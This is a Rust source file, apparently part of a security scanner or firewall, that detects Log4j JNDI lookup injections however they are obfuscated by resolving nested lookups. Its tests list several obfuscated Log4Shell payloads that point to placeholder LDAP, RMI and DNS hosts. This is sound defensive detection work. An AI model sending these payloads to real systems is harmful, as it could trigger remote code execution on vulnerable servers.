@@ -1,0 +1,139 @@
+//! Log4j lookups: `${jndi:…}` however it is spelled. Lookups are resolved as the library would, from the inside out.
+
+use super::Match;
+use shared::{
+    AttackType,
+    Severity::{Critical, Medium},
+};
+
+/// Deeper nesting is no spelling but a waste of time.
+const MAX_NESTING: usize = 24;
+/// What a lookup resolves to is cut here: the names looked for are short.
+const MAX_RESOLVED: usize = 256;
+
+struct Open {
+    start: usize,
+    text: Vec<u8>,
+}
+
+pub(super) fn detect(value: &[u8]) -> Option<Match<'static>> {
+    let first = memchr::memmem::find(value, b"${")?;
+    let mut open: Vec<Open> = Vec::new();
+    let mut at = first;
+    let mut is_nested = false;
+    while let Some(&byte) = value.get(at) {
+        let opens = byte == b'$' && value.get(at + 1) == Some(&b'{');
+        if opens && open.len() < MAX_NESTING {
+            open.push(Open { start: at, text: Vec::new() });
+            at += 2;
+            continue;
+        }
+        at += 1;
+        if byte != b'}' || open.is_empty() {
+            if let Some(Open { text, .. }) = open.last_mut().filter(|it| it.text.len() < MAX_RESOLVED) {
+                text.push(byte);
+            }
+            continue;
+        }
+        let Some(inner) = open.pop() else { continue };
+        if is_remote(&inner.text) {
+            return Some(matched("rce-jndi-lookup", value, inner.start..at));
+        }
+        let resolved = resolve(&inner.text);
+        is_nested |= resolved.is_some() && is_odd(&inner.text);
+        let resolved = resolved.unwrap_or_default();
+        // A lookup may bring the dollar sign of the next.
+        if resolved.ends_with(b"$") && value.get(at) == Some(&b'{') {
+            open.push(Open { start: inner.start, text: Vec::new() });
+            at += 1;
+        } else if let Some(outer) = open.last_mut() {
+            outer.text.extend(resolved);
+        }
+    }
+    // Log4j wants the closing bracket; whoever cuts or appends to the value may bring it.
+    if let Some(unclosed) = open.iter().find(|it| is_remote(&it.text)) {
+        return Some(matched("rce-jndi-lookup", value, unclosed.start..value.len()));
+    }
+    is_nested.then(|| matched("rce-lookup-disguise", value, first..value.len()))
+}
+
+fn matched(signature: &'static str, value: &[u8], span: std::ops::Range<usize>) -> Match<'static> {
+    let severity = if signature == "rce-jndi-lookup" { Critical } else { Medium };
+    Match { attack_type: AttackType::Rce, signature, severity, span: span.start..span.end.min(value.len()) }
+}
+
+fn is_remote(text: &[u8]) -> bool {
+    let text = text.trim_ascii();
+    text.get(..5).is_some_and(|name| name.eq_ignore_ascii_case(b"jndi:"))
+}
+
+/// Lookups that only spell letters: an innocent template has no use for them.
+fn is_odd(text: &[u8]) -> bool {
+    text.starts_with(b"::-")
+        || text.len() <= 8 && (text.starts_with(b"lower:") || text.starts_with(b"upper:"))
+}
+
+/// What a lookup stands for, where that can be known without the machine it runs on.
+fn resolve(text: &[u8]) -> Option<Vec<u8>> {
+    if let Some(at) = memchr::memmem::find(text, b":-") {
+        return Some(text[at + 2..].to_vec());
+    }
+    let colon = memchr::memchr(b':', text)?;
+    let argument = &text[colon + 1..];
+    match &*text[..colon].to_ascii_lowercase() {
+        b"lower" => Some(argument.to_ascii_lowercase()),
+        // The dotless i is upper-cased to a plain one.
+        b"upper" => {
+            Some(String::from_utf8_lossy(argument).replace('ı', "I").to_ascii_uppercase().into_bytes())
+        }
+        b"date" => Some(argument.iter().copied().filter(|byte| *byte != b'\'').collect()),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(value: &str) -> Option<&'static str> {
+        detect(value.as_bytes()).map(|it| it.signature)
+    }
+
+    #[test]
+    fn every_spelling_of_jndi_is_resolved() {
+        for attack in [
+            "${jndi:ldap://x.example/a}",
+            "x=${JNDI:rmi://x} y",
+            "${${lower:j}ndi:dns://x}",
+            "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
+            "${${env:NOPE:-j}n${lower:D}${upper:ı}:iiop://x}",
+            "${${date:'j'}${date:'n'}di:ldap://x}",
+            "${${lower:${lower:${upper:j}}}ndi:ldap://x}",
+            "${jndi:ldap://never.closed",
+            "$${a:${b:-$}{jndi:x}}",
+            "${:1:-x$}{jndi:ldap://x}",
+        ] {
+            assert_eq!(found(attack), Some("rce-jndi-lookup"), "{attack}");
+        }
+    }
+
+    #[test]
+    fn letters_spelled_as_lookups_are_odd_by_themselves() {
+        assert_eq!(found("${::-j}"), Some("rce-lookup-disguise"));
+    }
+
+    #[test]
+    fn templates_of_others_are_left_alone() {
+        for innocent in [
+            "${price}",
+            "${env:HOME}/bin",
+            "${PORT:-8080}",
+            "${a ? `${b}` : c}",
+            "jndi: a lookup",
+            "${",
+            "${}}",
+        ] {
+            assert_eq!(found(innocent), None, "{innocent}");
+        }
+    }
+}
